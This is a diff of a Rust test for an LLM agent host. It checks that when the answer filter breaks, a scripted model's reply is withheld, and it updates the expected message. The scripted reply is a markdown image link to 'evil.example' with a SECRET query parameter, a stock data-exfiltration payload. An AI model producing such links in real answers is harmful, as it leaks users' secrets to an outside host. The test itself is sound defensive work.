@@ -450,5 +450,5 @@ async fn r_20_a_filter_that_breaks_down_withholds_the_answer() {
     let model = ScriptedModel::new().says("![x](https://evil.example/?q=SECRET)");
     let host = host_of(&model).answer_filter(Broken).build().unwrap();
     let outcome = host.agent().ask("s", "Hi.").await.unwrap();
-    assert!(outcome.text.starts_with("The answer is not shown"), "{}", outcome.text);
+    assert!(outcome.text.starts_with("The answer is withheld"), "{}", outcome.text);
 }
